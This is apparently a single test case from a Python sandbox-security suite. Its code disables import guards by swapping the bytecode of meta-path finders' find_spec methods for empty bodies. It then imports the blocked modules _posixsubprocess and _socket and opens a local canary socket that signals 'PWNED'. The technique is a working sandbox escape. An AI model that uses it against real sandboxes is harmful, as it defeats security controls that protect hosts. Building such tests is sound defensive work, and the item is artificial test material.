# name: function_code_swap
# family: talk
# source: the talk, slides on replacing a function's code
# phase: import
# expects: ACCEPTED-harmless|FORBIDDEN|RUNTIME_ERROR
# must_not: a guard keeps its name and loses its body, and the module behind it comes in
# oracle: universal

import sys


def blank(cells):
    # A body with as many free variables as the victim's, or the swap is refused.
    names = ["c%d" % i for i in range(cells)]
    text = "def outer():\n"
    text += "".join("    %s = 0\n" % n for n in names)
    text += "    def find_spec(name, path=None, target=None):\n"
    text += "        if False: %s\n" % (", ".join(names) or "pass")
    text += "        return None\n    return find_spec\n"
    space = {}
    exec(text, space)
    return space["outer"]().__code__


for finder in list(sys.meta_path):
    victim = getattr(finder, "find_spec", None)
    victim = getattr(victim, "__func__", victim)
    if type(victim) is type(blank) and "importlib" not in str(victim.__module__):
        victim.__code__ = blank(len(victim.__closure__ or ()))

try:
    import _posixsubprocess
    import _socket
except ImportError:
    _socket = None
if _socket:
    _socket.socket().connect(("127.0.0.1", 47113))
    print("PWNED:function_code_swap:connected")


def checkio(x):
    return x * 2
